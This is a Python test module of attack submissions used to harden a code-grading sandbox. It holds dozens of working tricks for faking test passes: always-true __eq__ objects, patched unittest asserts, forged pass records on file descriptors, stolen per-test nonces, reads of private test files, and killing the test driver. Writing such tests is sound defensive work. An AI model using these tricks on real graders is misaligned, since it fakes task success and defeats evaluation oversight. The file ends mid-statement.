"""Attacks on code grading and on the sandbox, each with a check that it was stopped.

Shared by tests/test_sandbox_attacks.py, which runs them in-process (as whoever runs the
tests) and, where that is root, again as an ordinary user (uid 65534) through
``python tests/kit/sandbox_attacks.py``, which prints ``{name: [defended, detail]}`` as JSON.

Grading attacks submit code that solves nothing and must not be graded ``correct``.
OS attacks run with ``allow_subprocess=True``: the child processes stand for code that
slipped past the in-process audit hook (native code, ``_posixsubprocess``), so only the
OS layer stands in the way.  An OS attack is defended only where its processes proved
they ran and its effect did not happen; ``--controls`` runs each with its wall taken
down (the effect must happen), ``--runs-nothing`` each on a sandbox broken to run
nothing (none may be defended).
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import tempfile
import textwrap
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

from conductor.grading.code import CodeGrader
from conductor.grading.types import Sample
from conductor.sandbox import SandboxLimits, SandboxResult, run_sandboxed
from kit.sandbox_escapes import NOT_RUN, proof, said

Outcome = tuple[bool, str]

STDIN_TESTS = [
    {"input": "1 2\n", "output": "3\n", "testtype": "stdin"},
    {"input": "10 20\n", "output": "30\n", "testtype": "stdin"},
    {"input": "5 5\n", "output": "10\n", "testtype": "stdin"},
]
CALL_TESTS = [
    {"input": "[2,7,11,15]\n9", "output": "[0, 1]", "testtype": "functional"},
    {"input": "[3,2,4]\n6", "output": "[1, 2]", "testtype": "functional"},
]
BCB_TEST = textwrap.dedent(
    """\
    import unittest

    class TestCases(unittest.TestCase):
        def test_small(self):
            self.assertEqual(task_func([1, 2, 3]), 6)
        def test_empty(self):
            self.assertEqual(task_func([]), 0)
        def test_type(self):
            self.assertTrue(isinstance(task_func([4]), int))
            self.assertTrue(task_func([4]) == 4)
    """
)


# A BigCodeBench-style test that checks a file with os.path and a value with mocks in
# scope (many BigCodeBench tests import unittest.mock), and one that checks pandas.
BCB_FS_TEST = textwrap.dedent(
    """\
    import os
    import unittest
    from unittest import mock

    class TestCases(unittest.TestCase):
        def test_file(self):
            path = task_func("out.txt")
            self.assertTrue(os.path.exists(path))
            self.assertTrue(os.path.isfile(path))
        def test_value(self):
            self.assertEqual(task_func("x.txt", count=True), [1, 2, 3])
    """
)
BCB_PD_TEST = textwrap.dedent(
    """\
    import unittest
    import numpy as np
    import pandas as pd

    class TestCases(unittest.TestCase):
        def test_frame(self):
            df = task_func(3)
            self.assertTrue(df.equals(pd.DataFrame({"x": [0, 1, 4]})))
        def test_column(self):
            self.assertEqual(task_func(3)["x"].tolist(), [0, 1, 4])
        def test_array(self):
            self.assertTrue(np.array_equal(task_func(3)["x"].to_numpy(), np.array([0, 1, 4])))
    """
)
BCB_TESTS = {"bcb": BCB_TEST, "bcbfs": BCB_FS_TEST, "bcbpd": BCB_PD_TEST}


def _sample(kind: str) -> Sample:
    if kind == "stdin":
        meta = {
            "public_test_cases": json.dumps(STDIN_TESTS[:1]),
            "private_test_cases": json.dumps(STDIN_TESTS[1:]),
        }
    elif kind == "call":
        meta = {"tests": CALL_TESTS, "fn_name": "twoSum"}
    else:
        meta = {"test": BCB_TESTS[kind], "entry_point": "task_func"}
    return Sample(id=kind, input={"question": "?"}, gold=None, metadata=meta)


def _graded(kind: str, code: str, unisolated: bool = False) -> Outcome:
    """Defended when cheating code is not graded correct."""
    options: dict[str, Any] = {"time_limit_s": 5, "bigcodebench_time_limit_s": 30}
    if unisolated:
        options["confirm_run_unsafe_code"] = True
    grader = CodeGrader(**options)
    verdict = grader.grade(f"```python\n{textwrap.dedent(code)}\n```", _sample(kind))
    outcome = verdict.detail.get("outcome", "")
    return verdict.status != "correct", f"{verdict.status} ({outcome}): {verdict.reason[:160]}"


# --------------------------------------------------------------------- grading attacks

FAKE_FRAME = {"event": "test", "i": 0, "outcome": "passed", "timed_out": False,
              "status": {"exit": 0}, "stdout": "3\n", "value": "[0, 1]"}  # fmt: skip

GRADING: dict[str, tuple[str, str]] = {
    "lcb: call the harness's reporting function via sys.modules['__main__']": (
        "stdin",
        f"""
        import sys, json, os
        fake = json.loads({json.dumps(FAKE_FRAME)!r})
        for mod in list(sys.modules.values()):
            for name in ("emit", "frame", "report", "_child_result"):
                fn = getattr(mod, name, None)
                if callable(fn):
                    for i in range(3):
                        frame = dict(fake, i=i)
                        for args in ((frame,), ("R", json.dumps(frame))):
                            try:
                                fn(*args)
                            except Exception:
                                pass
                    try:
                        fn({{"event": "done"}})
                    except Exception:
                        pass
        for fd in range(3, 64):
            try:
                os.write(fd, b"R " + json.dumps(fake).encode() + b"\\n")
            except OSError:
                pass
        os._exit(0)
        """,
    ),
    "lcb: replace the output comparison": (
        "stdin",
        """
        import sys
        for mod in list(sys.modules.values()):
            for name in ("outputs_match", "values_match", "_judge_lcb_test"):
                try:
                    setattr(mod, name, lambda *a, **k: True)
                except Exception:
                    pass
        print(0)
        """,
    ),
    "lcb: read the tests file (private tests) and print the expected output": (
        "stdin",
        """
        import json, os, sys
        data = sys.stdin.read()
        roots = [os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/proc/1/cwd"]
        try:
            roots += [os.path.dirname(a) for a in open("/proc/1/cmdline").read().split("\\0") if a]
        except OSError:
            pass
        found = None
        for root in roots:
            for dirpath, _, names in os.walk(root):
                for name in names:
                    if name.endswith(".json"):
                        try:
                            text = open(os.path.join(dirpath, name)).read()
                        except OSError:
                            continue
                        if '"output"' in text:
                            found = text
                if dirpath.count("/") > 6:
                    break
        if found:
            for t in json.loads(found).get("tests", []):
                if t.get("input") == data:
                    print(t["output"], end="")
        """,
    ),
    "lcb: return an object whose __eq__ is always true": (
        "call",
        """
        class Always:
            def __eq__(self, other):
                return True
        class Solution:
            def twoSum(self, nums, target):
                return Always()
        """,
    ),
    "lcb: return a list subclass whose __eq__ is always true": (
        "call",
        """
        class Always(list):
            def __eq__(self, other):
                return True
        class Solution:
            def twoSum(self, nums, target):
                return Always()
        """,
    ),
    "lcb: os._exit(0) before any output": ("stdin", "import os\nos._exit(0)"),
    "lcb: print fake success markers": (
        "stdin",
        """
        print('@@CONDUCTOR-HARNESS@@ {"event": "test", "i": 0, "outcome": "passed"}')
        print('@@CONDUCTOR-HARNESS@@ {"event": "done"}')
        print('R {"event": "test", "i": 0, "stdout": "3"}')
        print('S {"exit": 0}')
        """,
    ),
    # The next test's child is forked (holding that test's input, output and result
    # files) while this test runs: its answers written there would be its output.
    "lcb: write the next tests' answers into the waiting child's files via /proc": (
        "stdin",
        """
        import os, sys, time
        line = sys.stdin.read().strip()
        if line == "1 2":
            time.sleep(0.3)  # until the next test's child is there
            for pid in os.listdir("/proc"):
                if not pid.isdigit() or int(pid) == os.getpid():
                    continue
                try:
                    fds = os.listdir(f"/proc/{pid}/fd")
                except OSError:
                    continue
                for fd in fds:
                    try:
                        with open(f"/proc/{pid}/fd/{fd}", "w") as fh:
                            fh.write("30\\n")
                    except OSError:
                        pass
            print(3)
        """,
    ),
    "lcb: kill the test driver": (
        "stdin",
        """
        import os, signal
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, signal.SIGKILL)
            except Exception:
                pass
        print(0)
        """,
    ),
    "bcb: patch unittest.TestCase.assert* at import": (
        "bcb",
        """
        import unittest
        for name in dir(unittest.TestCase):
            if name.startswith("assert"):
                setattr(unittest.TestCase, name, lambda *a, **k: None)
        def task_func(xs):
            return None
        """,
    ),
    "bcb: patch unittest.TestCase.assert* inside the call": (
        "bcb",
        """
        import unittest
        def task_func(xs):
            for name in dir(unittest.TestCase):
                if name.startswith("assert"):
                    setattr(unittest.TestCase, name, lambda *a, **k: None)
            return None
        """,
    ),
    "bcb: patch unittest.TestResult (failures never recorded)": (
        "bcb",
        """
        import unittest
        unittest.TestResult.addFailure = lambda *a, **k: None
        unittest.TestResult.addError = lambda *a, **k: None
        unittest.TestResult.wasSuccessful = lambda self: True
        def task_func(xs):
            return -1
        """,
    ),
    "bcb: return an object whose __eq__ is always true": (
        "bcb",
        """
        class Always:
            def __eq__(self, other):
                return True
            __bool__ = lambda self: True
        def task_func(xs):
            return Always()
        """,
    ),
    "bcb: return an int subclass whose __eq__ is always true": (
        "bcb",
        """
        class Always(int):
            def __eq__(self, other):
                return True
            __hash__ = int.__hash__
        def task_func(xs):
            return Always(0)
        """,
    ),
    "bcb: os._exit(0) at import": (
        "bcb",
        "import os\nos._exit(0)\ndef task_func(xs):\n    return 0",
    ),
    "bcb: sys.exit(0) at import": (
        "bcb",
        "import sys\nsys.exit(0)\ndef task_func(xs):\n    return 0",
    ),
    "bcb: os._exit(0) inside the call": (
        "bcb",
        "import os\ndef task_func(xs):\n    os._exit(0)",
    ),
    "bcb: raise unittest.SkipTest inside the call": (
        "bcb",
        "import unittest\ndef task_func(xs):\n    raise unittest.SkipTest('skip')",
    ),
    "bcb: patch builtins (isinstance, len) and the driver module": (
        "bcb",
        """
        import builtins, sys
        builtins.isinstance = lambda *a: True
        builtins.issubclass = lambda *a: True
        main = sys.modules.get("__main__")
        for name in ("untrusted", "_checked", "restore", "frame", "report"):
            try:
                setattr(main, name, lambda *a, **k: None)
            except Exception:
                pass
        def task_func(xs):
            return -1
        """,
    ),
    "bcb: forge a pass verdict on every fd": (
        "bcb",
        """
        import json, os
        for name in ("test_small", "test_empty", "test_type"):
            line = json.dumps({"nonce": "0" * 32, "test": name, "outcome": "pass", "error": ""})
            for fd in range(0, 64):
                try:
                    os.write(fd, ("V " + line + "\\n").encode())
                except OSError:
                    pass
        print("OK")
        print("Ran 3 tests in 0.001s\\n\\nOK")
        os._exit(0)
        def task_func(xs):
            return 0
        """,
    ),
    "bcb: define TestCases first so the real one is shadowed": (
        "bcb",
        """
        import unittest, builtins
        real_build = builtins.__build_class__
        def build(func, name, *bases, **kw):
            cls = real_build(func, name, *bases, **kw)
            if name == "TestCases":
                for attr in list(vars(cls)):
                    if attr.startswith("test"):
                        setattr(cls, attr, lambda self: None)
            return cls
        builtins.__build_class__ = build
        def task_func(xs):
            return -1
        """,
    ),
}


BCB_FORGERY: dict[str, tuple[str, str]] = {
    # --- the per-test tag: walk frames (and tracebacks) for anything that looks like it
    "bcb: walk frames to the per-test tag and forge a pass with every candidate": (
        "bcb",
        """
        import os, re, sys, json
        def _candidates():
            seen, out = set(), set()
            f = sys._getframe()
            todo = []
            while f is not None:
                todo.append(f)
                f = f.f_back
            try:
                raise KeyError
            except KeyError as exc:
                tb = exc.__traceback__
                while tb is not None:
                    todo.append(tb.tb_frame)
                    tb = tb.tb_next
            for fr in todo:
                for scope in (fr.f_locals, fr.f_globals):
                    for v in list(scope.values()):
                        vals = [v]
                        if isinstance(v, (tuple, list)):
                            vals += list(v)
                        for x in vals:
                            if isinstance(x, (str, bytes)) and len(x) in (16, 32, 64):
                                out.add(x.hex() if isinstance(x, bytes) else x)
            return out
        def task_func(xs):
            for nonce in _candidates():
                for name in ("test_small", "test_empty", "test_type"):
                    for line in ("V %s pass 00\\n" % nonce,
                                 "V " + json.dumps({"nonce": nonce, "test": name,
                                                    "outcome": "pass", "error": ""}) + "\\n"):
                        for fd in range(3, 64):
                            try:
                                os.write(fd, line.encode())
                            except OSError:
                                pass
            os._exit(0)
        """,
    ),
    "bcb: call the driver's pass request from the solution (frames' globals)": (
        "bcb",
        """
        import sys
        def task_func(xs):
            f = sys._getframe()
            while f is not None:
                for name in ("_ask_pass", "_ask"):
                    fn = f.f_globals.get(name)
                    if callable(fn):
                        try:
                            fn() if name == "_ask_pass" else fn(b"P")
                        except BaseException:
                            pass
                f = f.f_back
            import os
            os._exit(0)
        """,
    ),
    "bcb: a finaliser calls the driver's pass request on a driver frame": (
        "bcb",
        """
        import sys, weakref, gc
        class Holder:
            pass
        def task_func(xs):
            f = sys._getframe()
            g = None
            while f is not None:
                g = f.f_globals.get("_ask_pass") or g
                f = f.f_back
            h = Holder()
            if g is not None:
                # weakref callbacks run newest first: the pass request, then the exit
                weakref.finalize(h, __import__("os")._exit, 0)
                weakref.finalize(h, g)
            return -1
        """,
    ),
    "bcb: a signal handler writes the pass request while the driver waits": (
        "bcb",
        """
        import os, signal, sys
        def task_func(xs):
            f = sys._getframe()
            chan = None
            while f is not None:
                chan = f.f_globals.get("_CHAN") or chan
                f = f.f_back
            def handler(*a):
                if chan:
                    try:
                        os.write(chan[0], b"P")
                    except OSError:
                        pass
            signal.signal(signal.SIGALRM, handler)
            signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
            return -1
        """,
    ),
    "bcb: edit the test case on the stack (assertEqual replaced on the instance)": (
        "bcb",
        """
        import sys, unittest
        def task_func(xs):
            f = sys._getframe()
            while f is not None:
                me = f.f_locals.get("self")
                if isinstance(me, unittest.TestCase):
                    me.assertEqual = lambda *a, **k: None
                    me.assertTrue = lambda *a, **k: None
                f = f.f_back
            return -1
        """,
    ),
    "bcb: register an equality function on the test case": (
        "bcb",
        """
        import sys, unittest
        def task_func(xs):
            f = sys._getframe()
            while f is not None:
                me = f.f_locals.get("self")
                if isinstance(me, unittest.TestCase):
                    me._type_equality_funcs[int] = lambda *a, **k: None
                f = f.f_back
            return -1
        """,
    ),
    "bcb: swap the test class's methods and fixtures for no-ops": (
        "bcb",
        """
        import sys, unittest
        def task_func(xs):
            f = sys._getframe()
            while f is not None:
                me = f.f_locals.get("self")
                if isinstance(me, unittest.TestCase):
                    type(me).assertEqual = lambda *a, **k: None
                f = f.f_back
            return -1
        """,
    ),
    "bcb: replace unittest's runner (TestCase.debug / _callTestMethod)": (
        "bcb",
        """
        import unittest
        unittest.TestCase._callTestMethod = lambda self, method: None
        unittest.TestCase.debug = lambda self: None
        def task_func(xs):
            return -1
        """,
    ),
    "bcb: rebind the driver's own functions (frames' globals)": (
        "bcb",
        """
        import sys
        g = sys._getframe(0).f_back.f_globals if sys._getframe(0).f_back else {}
        for name in ("_run_debug", "untrusted", "_checked", "_asserting"):
            if name in g:
                g[name] = lambda *a, **k: (a[0] if name == "_checked" else "")
        def task_func(xs):
            return -1
        """,
    ),
    "bcb: empty the judge's rules (frames' globals)": (
        "bcb",
        """
        import sys
        f = sys._getframe()
        while f is not None:
            if "_BCB_RULES" in f.f_globals:
                f.f_globals["_BCB_RULES"] = ()
            f = f.f_back
        class Always:
            def __eq__(self, other):
                return True
        def task_func(xs):
            return Always()
        """,
    ),
    "bcb: finalisers run by the collector on the judge thread read its frames": (
        "bcb",
        """
        import gc, os, sys, threading, time
        found = set()
        class Spy:
            def __del__(self):
                f = sys._getframe()
                while f is not None:
                    for v in list(f.f_locals.values()):
                        if isinstance(v, str) and len(v) == 32:
                            found.add(v)
                    f = f.f_back
                if found:
                    forge()
                    os._exit(0)
        def churn():
            while True:
                gc.enable()
                for _ in range(300):
                    a = Spy()
                    a.me = a
        threading.Thread(target=churn, daemon=True).start()
        def forge():
            for tag in list(found):
                for fd in range(3, 64):
                    try:
                        os.write(fd, ("V %s pass 00\\n" % tag).encode())
                    except OSError:
                        pass
        def task_func(xs):
            time.sleep(0.3)
            forge()
            return -1
        """,
    ),
    "bcb: take the judge's fds away and catch its traceback (unraisable hook)": (
        "bcb",
        """
        import os, sys
        seen = []
        def hook(unraisable):
            tb = unraisable.exc_traceback
            while tb is not None:
                seen.extend(v for v in tb.tb_frame.f_locals.values() if isinstance(v, str))
                tb = tb.tb_next
        sys.unraisablehook = hook
        threading_excepthook = lambda args: hook(args)
        def task_func(xs):
            for fd in range(3, 64):
                try:
                    os.close(fd)
                except OSError:
                    pass
            for tag in seen:
                for fd in range(3, 64):
                    try:
                        os.write(fd, ("V %s pass 00\\n" % tag).encode())
                    except OSError:
                        pass
            return -1
        """,
    ),
    # --- values that answer the check themselves
    "bcb: return unittest.mock.ANY": (
        "bcb",
        """
        from unittest import mock
        def task_func(xs):
            return mock.ANY
        """,
    ),
    "bcb: return unittest.mock.ANY inside a list (test imports mock)": (
        "bcbfs",
        """
        from unittest import mock
        def task_func(name, count=False):
            if count:
                return [mock.ANY, mock.ANY, mock.ANY]
            with open(name, "w") as fh:
                fh.write("x")
            return name
        """,
    ),
    "bcb: return a MagicMock configured to equal anything": (
        "bcb",
        """
        from unittest.mock import MagicMock
        def task_func(xs):
            m = MagicMock()
            m.__eq__.return_value = True
            m.__bool__.return_value = True
            return m
        """,
    ),
    "bcb: return a pandas DataFrame holding rigged objects": (
        "bcbpd",
        """
        import pandas as pd
        class Always:
            def __eq__(self, other):
                return True
            __hash__ = object.__hash__
        def task_func(n):
            return pd.DataFrame({"x": [Always() for _ in range(n)]})
        """,
    ),
    "bcb: return a numpy object array holding rigged objects": (
        "bcb",
        """
        import numpy as np
        class Always:
            def __eq__(self, other):
                return True
            def __bool__(self):
                return True
            __hash__ = object.__hash__
        def task_func(xs):
            a = np.empty(1, dtype=object)
            a[0] = Always()
            return a[0:1].tolist()[0] if False else [Always()][0:1] and (Always(),)[0]
        """,
    ),
    "bcb: a rigged object hidden in a library object's attribute": (
        "bcbpd",
        """
        import pandas as pd
        class Always(list):
            def __eq__(self, other):
                return True
        def task_func(n):
            df = pd.DataFrame({"x": list(range(n))})
            df.attrs["x"] = Always()
            object.__setattr__(df, "equals", lambda other: True)
            return df
        """,
    ),
    "bcb: a rigged object put into a list the test passed in": (
        "bcb",
        """
        class Zero(int):
            def __eq__(self, other):
                return True
            __hash__ = int.__hash__
        def task_func(xs):
            xs.append(Zero(0))
            return xs[-1]
        """,
    ),
    "bcb: a class whose __eq__ is a builtin (int.__ne__) on an int subclass": (
        "bcb",
        """
        X = type("X", (int,), {"__eq__": int.__ne__, "__hash__": int.__hash__})
        def task_func(xs):
            return X(-12345)
        """,
    ),
    # --- patching what the test checks with
    "bcb: patch posixpath.exists (os.path.exists) to always say yes": (
        "bcbfs",
        """
        import posixpath, genericpath
        posixpath.exists = lambda p: True
        posixpath.isfile = genericpath.isfile = lambda p: True
        def task_func(name, count=False):
            return [1, 2, 3] if count else "/nonexistent/" + name
        """,
    ),
    "bcb: a patch of os.path.exists that removes itself after one use": (
        "bcbfs",
        """
        import posixpath, genericpath
        real_exists, real_isfile = posixpath.exists, posixpath.isfile
        def task_func(name, count=False):
            def fake_exists(p):
                posixpath.exists = real_exists
                return True
            def fake_isfile(p):
                posixpath.isfile = real_isfile
                return True
            posixpath.exists, posixpath.isfile = fake_exists, fake_isfile
            return [1, 2, 3] if count else "/nonexistent/" + name
        """,
    ),
    "bcb: mock.patch('os.path.exists').start() from the solution": (
        "bcbfs",
        """
        from unittest import mock
        def task_func(name, count=False):
            mock.patch("os.path.exists", return_value=True).start()
            mock.patch("os.path.isfile", return_value=True).start()
            return [1, 2, 3] if count else "/nonexistent/" + name
        """,
    ),
    "bcb: a finaliser starts mock.patch with only library code on the stack": (
        "bcbfs",
        """
        import weakref, operator
        from unittest import mock
        class Token:
            pass
        def task_func(name, count=False):
            t = Token()
            for target in ("os.path.exists", "os.path.isfile"):
                weakref.finalize(t, mock.patch(target, return_value=True).start)
            return [1, 2, 3] if count else "/nonexistent/" + name
        """,
    ),
    "bcb: a thread patches os.path.exists after the call returns": (
        "bcbfs",
        """
        import threading, time, posixpath
        def task_func(name, count=False):
            def later():
                time.sleep(0.05)
                posixpath.exists = posixpath.isfile = lambda p: True
            threading.Thread(target=later, daemon=True).start()
            time.sleep(0.2)
            return [1, 2, 3] if count else "/nonexistent/" + name
        """,
    ),
    "bcb: patch a library method the test judges with (DataFrame.equals, np.array_equal)": (
        "bcbpd",
        """
        import numpy as np
        import pandas as pd
        pd.DataFrame.equals = lambda self, other: True
        np.array_equal = lambda *a, **k: True
        def task_func(n):
            return pd.DataFrame({"x": [0.0, 1.0, 4.0][:n]})  # right values, wrong dtype
        """,
    ),
    "bcb: add a shadowing method to a library class (DataFrame.__eq__ via the base)": (
        "bcbpd",
        """
        import pandas as pd
        import pandas.core.generic as generic
        generic.NDFrame.equals = lambda self, other: True
        def task_func(n):
            return pd.DataFrame({"x": [0.0, 1.0, 4.0][:n]})  # right values, wrong dtype
        """,
    ),
    "bcb: replace a function's code object (np.array_equal)": (
        "bcbpd",
        """
        import numpy as np
        def yes(*a, **k):
            return True
        try:
            np.array_equal.__code__ = yes.__code__
        except Exception:
            pass
        def task_func(n):
            import pandas as pd
            return pd.DataFrame({"x": [0.0, 1.0, 4.0][:n]})  # right values, wrong dtype
        """,
    ),
    "bcb: define isinstance in the module the test shares": (
        "bcb",
        """
        def isinstance(*a):
            return True
        def task_func(xs):
            return -1
        """,
    ),
    "bcb: rebind a name the test module imported (os) while the test runs": (
        "bcbfs",
        """
        import sys, types
        def task_func(name, count=False):
            fake = types.SimpleNamespace(path=types.SimpleNamespace(
                exists=lambda p: True, isfile=lambda p: True))
            globals()["os"] = fake
            return [1, 2, 3] if count else "/nonexistent/" + name
        """,
    ),
    "bcb: hand the test another os through sys.modules": (
        "bcbfs",
        """
        import sys, types
        fake = types.ModuleType("os")
        fake.__dict__.update(vars(__import__("os")))
        fake.path = types.SimpleNamespace(exists=lambda p: True, isfile=lambda p: True)
        sys.modules["os"] = fake
        def task_func(name, count=False):
            return [1, 2, 3] if count else "/nonexistent/" + name
        """,
    ),
    "bcb: give the shared module its own __builtins__ (isinstance always true)": (
        "bcb",
        """
        import builtins
        def task_func(xs):
            g = globals()
            g["__builtins__"] = dict(vars(builtins), isinstance=lambda *a: True)
            return -1
        """,
    ),
    "bcb: add an audit hook of its own": (
        "bcb",
        """
        import sys
        sys.addaudithook(lambda event, args: None)
        def task_func(xs):
            return -1
        """,
    ),
}

GRADING.update(BCB_FORGERY)

# A call-based sample's tests all run in one child (as the official checker runs them):
# attacks from inside that shared process.  Where one writes the right answers itself,
# it stands for the strongest forger (a real one never sees the expected outputs).
LCB_SHARED_CHILD: dict[str, tuple[str, str]] = {
    "lcb call: forge every test's record on every fd, then answer wrong": (
        "call",
        """
        import os
        class Solution:
            def twoSum(self, nums, target):
                for fd in range(3, 256):
                    try:
                        os.write(fd, b"V 0 [0, 1]\\nV 1 [1, 2]\\n")
                    except OSError:
                        pass
                return [9, 9]
        """,
    ),
    "lcb call: answer the first test, then os._exit(0) in the next": (
        "call",
        """
        import os
        class Solution:
            def twoSum(self, nums, target):
                if nums[0] != 2:
                    os._exit(0)
                return [0, 1]
        """,
    ),
    "lcb call: answer the first test, then raise SystemExit(0) in the next": (
        "call",
        """
        class Solution:
            def twoSum(self, nums, target):
                if nums[0] != 2:
                    raise SystemExit(0)
                return [0, 1]
        """,
    ),
    "lcb call: ignore the time-limit signals and loop in the next test": (
        "call",
        """
        import signal
        for sig in (signal.SIGALRM, signal.SIGXCPU, signal.SIGTERM, signal.SIGVTALRM):
            signal.signal(sig, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
        class Solution:
            def twoSum(self, nums, target):
                signal.alarm(0)
                signal.setitimer(signal.ITIMER_REAL, 0)
                while nums[0] != 2:
                    pass
                return [0, 1]
        """,
    ),
    "lcb call: close every fd in the next test and answer wrong": (
        "call",
        """
        import os
        class Solution:
            def twoSum(self, nums, target):
                if nums[0] != 2:
                    os.closerange(0, 256)
                    return [9, 9]
                return [0, 1]
        """,
    ),
    "lcb call: write driver frames and fake records on every fd, then exit": (
        "call",
        f"""
        import json, os
        fake = json.loads({json.dumps(FAKE_FRAME)!r})
        frames = [dict(fake, i=i, value=v) for i, v in ((0, "[0, 1]"), (1, "[1, 2]"))]
        text = "".join("R " + json.dumps(f) + chr(10) for f in frames)
        text += chr(10).join(["V 0", "V 1 ", "V  [1, 2]", 'S {{"exit": 0}}', ""])
        for fd in range(0, 256):
            try:
                os.write(fd, text.encode())
            except OSError:
                pass
        os._exit(0)
        """,
    ),
    "lcb call: rewrite the later tests' inputs from the first test's call": (
        "call",
        """
        import sys
        class Solution:
            def twoSum(self, nums, target):
                frame = sys._getframe(1)
                while frame is not None:
                    tests = frame.f_locals.get("tests")
                    if isinstance(tests, list):
                        for t in tests:
                            if isinstance(t, dict):
                                t["input"] = "[2,7,11,15]\\n9"
                    frame = frame.f_back
                return [0, 1]
        """,
    ),
    "lcb call: a thread of the first test floods the result pipe": (
        "call",
        """
        import os, threading
        wrote = threading.Event()
        def flood():
            junk = b"V " + b"1" * 65536
            for _ in range(100):
                for fd in range(3, 64):
                    try:
                        os.write(fd, junk)
                    except OSError:
                        pass
                wrote.set()
        class Solution:
            def twoSum(self, nums, target):
                threading.Thread(target=flood, daemon=True).start()
                wrote.wait()
                return [0, 1] if nums[0] == 2 else [1, 2]
        """,
    ),
}
GRADING.update(LCB_SHARED_CHILD)

# Honest BigCodeBench programs the defences must not refuse (each is "defended" when it
# is graded correct): libraries imported lazily, the test's own mock.patch in every
# form, subprocesses, threads, fixtures and helper classes of the test's.
BCB_HONEST: dict[str, tuple[str, str]] = {
    "bcb honest: subprocess.run(['echo', ...]) passes": (
        """
        import subprocess
        def task_func(word):
            return subprocess.run(["echo", word], capture_output=True, text=True).stdout.strip()
        """,
        """
        import unittest
        class TestCases(unittest.TestCase):
            def test_echo(self):
                self.assertEqual(task_func("hello"), "hello")
        """,
    ),
    "bcb honest: pandas, matplotlib (lazy backend) and logging": (
        """
        import logging
        import matplotlib.pyplot as plt
        import pandas as pd
        def task_func(n):
            logging.getLogger(__name__).warning("making %d", n)
            df = pd.DataFrame({"x": [i * i for i in range(n)]})
            fig, ax = plt.subplots()
            ax.plot(df["x"])
            ax.set_title("Squares")
            return df, ax
        """,
        """
        import unittest
        import matplotlib.pyplot as plt
        import pandas as pd
        class TestCases(unittest.TestCase):
            def setUp(self):
                self.test_dir = "unused"
                self.maxDiff = None
            def tearDown(self):
                plt.close("all")
            def test_frame(self):
                df, ax = task_func(3)
                self.assertTrue(df.equals(pd.DataFrame({"x": [0, 1, 4]})))
                pd.testing.assert_frame_equal(df, pd.DataFrame({"x": [0, 1, 4]}))
                self.assertEqual(ax.get_title(), "Squares")
                self.assertIsInstance(ax, plt.Axes)
        """,
    ),
    "bcb honest: the test's mock.patch as decorator, context and start()": (
        """
        import os
        import requests
        def task_func(url):
            r = requests.get(url)
            if not os.path.exists("/nonexistent/file"):
                return None
            return r.json()["value"]
        """,
        """
        import unittest
        from unittest.mock import MagicMock, patch
        class TestCases(unittest.TestCase):
            @patch("os.path.exists", return_value=True)
            @patch("requests.get")
            def test_decorated(self, mock_get, mock_exists):
                mock_get.return_value = MagicMock(json=lambda: {"value": 5})
                self.assertEqual(task_func("http://x"), 5)
                mock_get.assert_called_once_with("http://x")
            def test_with(self):
                with patch("requests.get"), patch("os.path.exists") as exists:
                    exists.return_value = False
                    self.assertIsNone(task_func("http://y"))
            def test_started(self):
                patcher = patch("os.path.exists", return_value=True)
                patcher.start()
                self.addCleanup(patcher.stop)
                with patch("requests.get") as get:
                    get.return_value.json.return_value = {"value": 7}
                    self.assertEqual(task_func("u"), 7)
        """,
    ),
    "bcb honest: threads, numpy, subTest, assertRaises, setUpClass, helper class": (
        """
        import json, threading
        from concurrent.futures import ThreadPoolExecutor
        import numpy as np
        def task_func(n):
            with ThreadPoolExecutor(2) as ex:
                squares = list(ex.map(lambda x: x * x, range(n)))
            t = threading.Thread(target=lambda: None)
            t.start()
            t.join()
            return {"sum": int(np.array(squares).sum()), "json": json.dumps(squares)}
        """,
        """
        import json
        import unittest
        import numpy as np
        class Point:
            def __init__(self, v):
                self.v = v
            def __eq__(self, other):
                return isinstance(other, Point) and other.v == self.v
            __hash__ = object.__hash__
        class TestCases(unittest.TestCase):
            @classmethod
            def setUpClass(cls):
                cls.n = 4
            def test_all(self):
                r = task_func(self.n)
                self.assertEqual(r["sum"], 14)
                np.testing.assert_array_equal(np.array(json.loads(r["json"])), [0, 1, 4, 9])
                with self.subTest(i=1):
                    self.assertAlmostEqual(1.0, 1.0 + 1e-9)
                with self.assertRaises(TypeError):
                    task_func("x")
                self.assertEqual(Point(1), Point(1))
        """,
    ),
}


def honest_bcb(name: str) -> Callable[[], Outcome]:
    """Defended when the honest program ``name`` is graded correct."""
    code, test = BCB_HONEST[name]

    def run() -> Outcome:
        missing = _missing_libraries(code, test)
        if missing:
            return True, missing
        sample = Sample(
            id="h",
            input={"question": "?"},
            gold=None,
            metadata={"test": textwrap.dedent(test), "entry_point": "task_func"},
        )
        grader = CodeGrader(bigcodebench_time_limit_s=60)
        verdict = grader.grade(f"```python\n{textwrap.dedent(code)}\n```", sample)
        outcome = verdict.detail.get("outcome", "")
        return verdict.status == "correct", f"{verdict.status} ({outcome}): {verdict.reason[:160]}"

    return run


def _missing_libraries(*texts: str) -> str:
    """``not run: ...`` when a library the program or its test imports is not installed
    for this interpreter (an attack that dies importing it proves nothing), else ``""``."""
    import importlib.util

    libs = ("numpy", "pandas", "matplotlib", "requests")
    text = " ".join(texts)
    missing = [lib for lib in libs if lib in text and importlib.util.find_spec(lib) is None]
    return "not run: " + ", ".join(missing) + " missing for this interpreter" if missing else ""


def grading_attack(name: str, unisolated: bool = False) -> Callable[[], Outcome]:
    """The attack ``name``; ``unisolated`` lets it run where no OS isolation exists."""
    kind, code = GRADING[name]

    def run() -> Outcome:
        missing = _missing_libraries(code, BCB_TESTS.get(kind, ""))
        return (True, missing) if missing else _graded(kind, code, unisolated)

    return run


# ------------------------------------------------------------------------- OS attacks
#
# An OS attack is defended only where its program ran and its effect did not happen: a
# sandbox that runs nothing must fail every one of them (see runs_nothing and
# tests/test_sandbox_attacks.py).  Each process that takes a step of the attack prints
# its proof (kit.sandbox_escapes.proof) once it is there.

SECRET = "sk-conductor-test-" + uuid.uuid4().hex


def _outcome(res: SandboxResult, effect: bool, detail: str, *steps: str) -> Outcome:
    """Defended where every step printed its proof and the effect did not happen."""
    missing = [step for step in steps if said(step) not in res.stdout]
    if missing:
        return False, (
            f"{NOT_RUN}no proof from {', '.join(missing)} (rc {res.returncode}, "
